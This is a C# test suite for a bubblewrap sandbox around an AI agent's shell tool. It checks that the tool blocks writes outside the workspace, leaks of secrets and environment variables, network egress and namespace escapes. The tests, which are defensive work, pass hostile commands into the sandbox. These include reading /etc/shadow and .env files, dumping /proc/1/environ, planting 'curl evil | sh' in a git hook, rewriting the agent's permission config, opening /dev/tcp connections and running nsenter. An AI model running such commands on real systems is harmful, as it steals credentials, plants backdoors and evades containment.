using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using Wright.Core.Tools;
using Wright.Sandbox;
using Wright.Tests.Support;
using Wright.Tools;
using Wright.Tools.Shell;

namespace Wright.Tests.Sandbox;

/// <summary>
/// The shell tool under the real bubblewrap: each case asserts the concrete outcome and the host file or byte that
/// must not have changed. (test.sh installs bubblewrap; the failed configurations in shared/notes/security.md are
/// the regressions these guard against.)
/// </summary>
public sealed class BubblewrapLauncherTests : IDisposable
{
    private readonly ToolTestContext _ctx = new();
    private readonly string _outside;
    private readonly ShellTool _shell;

    public BubblewrapLauncherTests()
    {
        var (available, reason) = BubblewrapLauncher.Probe();
        Assert.True(available, "bubblewrap must work on the test machine: " + reason);
        _outside = Path.Combine(_ctx.Root, "outside");
        Directory.CreateDirectory(_outside);
        File.WriteAllText(Path.Combine(_outside, "host.txt"), "host data");
        _shell = new ShellTool(new ToolOptions
        {
            DefaultShellTimeout = TimeSpan.FromSeconds(20),
            Launcher = new BubblewrapLauncher(_ctx.Workspace, [Path.Combine(_ctx.Root, "session")]),
        });
    }

    public void Dispose() => _ctx.Dispose();

    private Task<ToolResult> Run(string command, int? timeoutMs = null)
    {
        var args = new Dictionary<string, object> { ["command"] = command };
        if (timeoutMs is { } t)
            args["timeout_ms"] = t;
        return _shell.InvokeAsync(JsonDocument.Parse(JsonSerializer.Serialize(args, TestJson.Default.DictionaryStringObject)).RootElement,
            _ctx.Context, TestContext.Current.CancellationToken);
    }

    [Fact]
    public async Task A_command_outlives_the_thread_that_started_it()
    {
        // bwrap --die-with-parent: Linux signals the child when the *thread* that forked it exits, and the thread pool
        // retires idle threads. Here the starting thread ends while the command runs; the command must not be killed.
        Task<ToolResult>? run = null;
        var starter = new Thread(() =>
        {
            run = Run("sleep 2; echo survived");
            Thread.Sleep(500);
        });
        starter.Start();
        starter.Join();
        var result = await run!.WaitAsync(TimeSpan.FromSeconds(30), TestContext.Current.CancellationToken);

        Assert.Contains("survived", result.Content);
        Assert.Contains("[exit code 0", result.Content);
    }

    [Fact]
    public async Task The_workspace_is_writable_and_cd_persists()
    {
        Directory.CreateDirectory(Path.Combine(_ctx.Workspace, "src"));
        var write = await Run("echo built > out.txt && cd src && pwd");
        var after = await Run("pwd");

        Assert.Contains("[exit code 0", write.Content);
        Assert.Equal("built\n", File.ReadAllText(Path.Combine(_ctx.Workspace, "out.txt")));
        Assert.Contains(Path.Combine(_ctx.Workspace, "src"), after.Content);
    }

    [Fact]
    public async Task Writing_outside_the_workspace_fails_and_the_host_is_unchanged()
    {
        var result = await Run($"echo pwned > '{_outside}/host.txt'; echo pwned > /etc/wright-test; touch /usr/bin/evil");

        Assert.Contains("Read-only file system", result.Content);
        Assert.Equal("host data", File.ReadAllText(Path.Combine(_outside, "host.txt")));
        Assert.False(File.Exists("/etc/wright-test"));
        Assert.False(File.Exists("/usr/bin/evil"));
    }

    [Fact]
    public async Task Remounting_root_read_write_fails()
    {
        var result = await Run("mount -o remount,rw / && touch /remounted; echo status=$?");

        Assert.DoesNotContain("status=0", result.Content);
        Assert.False(File.Exists("/remounted"));
    }

    [Fact]
    public async Task The_parent_environment_and_secrets_do_not_reach_the_sandbox()
    {
        Environment.SetEnvironmentVariable("WRIGHT_SANDBOX_PROBE_TOKEN", "tok-should-not-leak");
        try
        {
            var result = await Run("cat /proc/1/environ | tr '\\0' '\\n'; echo ---; env; echo ---; cat /proc/self/status | grep -E 'CapEff|NoNewPrivs'");
            Assert.DoesNotContain("tok-should-not-leak", result.Content);
            Assert.Contains("CapEff:\t0000000000000000", result.Content);
        }
        finally
        {
            Environment.SetEnvironmentVariable("WRIGHT_SANDBOX_PROBE_TOKEN", null);
        }
    }

    [Fact]
    public async Task Secrets_are_masked()
    {
        File.WriteAllText(Path.Combine(_ctx.Workspace, ".env"), "API_KEY=sk-live-123");
        File.WriteAllText(Path.Combine(_ctx.Workspace, ".env.local"), "DB_PASSWORD=hunter2");
        Directory.CreateDirectory(Path.Combine(_ctx.Root, "session"));
        File.WriteAllText(Path.Combine(_ctx.Root, "session", "secret.json"), "wright-home-secret");
        var result = await Run($"cat .env .env.local; cat /etc/shadow; cat '{_ctx.Root}/session/secret.json'; ls -A /root");

        Assert.DoesNotContain("sk-live-123", result.Content);
        Assert.DoesNotContain("hunter2", result.Content);
        Assert.DoesNotContain("root:", result.Content);
        Assert.DoesNotContain("wright-home-secret", result.Content);
    }

    [Fact]
    public async Task Git_config_hooks_and_agent_config_are_read_only()
    {
        Directory.CreateDirectory(Path.Combine(_ctx.Workspace, ".git", "hooks"));
        File.WriteAllText(Path.Combine(_ctx.Workspace, ".git", "config"), "[core]\n");
        Directory.CreateDirectory(Path.Combine(_ctx.Workspace, ".wright"));
        File.WriteAllText(Path.Combine(_ctx.Workspace, ".wright", "config.json"), "{}");
        var result = await Run("echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] pager=evil' >> .git/config; echo '{\"permissions\":{\"allow\":[\"shell\"]}}' > .wright/config.json; echo x > .git/HEAD");

        Assert.False(File.Exists(Path.Combine(_ctx.Workspace, ".git", "hooks", "pre-commit")));
        Assert.Equal("[core]\n", File.ReadAllText(Path.Combine(_ctx.Workspace, ".git", "config")));
        Assert.Equal("{}", File.ReadAllText(Path.Combine(_ctx.Workspace, ".wright", "config.json")));
        Assert.False(File.Exists(Path.Combine(_ctx.Workspace, ".git", "HEAD")), "the whole .git folder is read-only");
        Assert.Contains("Read-only file system", result.Content);
    }

    [Fact]
    public async Task Tcp_udp_and_dns_egress_fail()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var accept = listener.AcceptTcpClientAsync(TestContext.Current.CancellationToken).AsTask();
        var result = await Run($"(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo tcp-open; (echo hi > /dev/udp/1.1.1.1/53) && echo udp-sent; getent hosts example.com && echo dns-ok; echo done");

        Assert.Contains("done", result.Content);
        Assert.DoesNotContain("tcp-open", result.Content);
        Assert.DoesNotContain("udp-sent", result.Content);
        Assert.DoesNotContain("dns-ok", result.Content);
        await Task.Delay(300, TestContext.Current.CancellationToken);
        Assert.False(accept.IsCompleted, "the sandbox reached a host TCP listener");
    }

    [Fact]
    public async Task Escaping_namespaces_fails()
    {
        var result = await Run("nsenter -t 1 -n true && echo entered; unshare -U true && echo unshared; echo done");

        Assert.Contains("done", result.Content);
        Assert.DoesNotContain("entered", result.Content);
    }

    [Fact]
    public async Task A_symlink_to_outside_cannot_be_written_through()
    {
        File.CreateSymbolicLink(Path.Combine(_ctx.Workspace, "escape"), _outside);
        var result = await Run("echo pwned > escape/host.txt; echo status=$?");

        Assert.Contains("status=1", result.Content);
        Assert.Equal("host data", File.ReadAllText(Path.Combine(_outside, "host.txt")));
    }

    [Fact]
    public async Task A_timeout_kills_everything_in_the_sandbox()
    {
        var started = DateTime.UtcNow;
        var result = await Run("sleep 300 & sleep 300", timeoutMs: 1000);

        Assert.Contains("timed out after 1s", result.Content);
        Assert.True(DateTime.UtcNow - started < TimeSpan.FromSeconds(15));
    }

    [Fact]
    public void A_working_directory_outside_the_workspace_falls_back_to_the_workspace()
    {
        using var launcher = new BubblewrapLauncher(_ctx.Workspace, []);
        using var launch = launcher.Launch(["-c", "pwd"], new Dictionary<string, string>(), "/etc");

        var args = LaunchArguments.Of(launch);
        Assert.Equal(_ctx.Workspace, args[args.IndexOf("--chdir") + 1]);
        Assert.Equal(["PATH"], launch.StartInfo.Environment.Keys);
        Assert.Contains("--cap-drop", args);
        Assert.Contains("--unshare-all", args);
    }
}
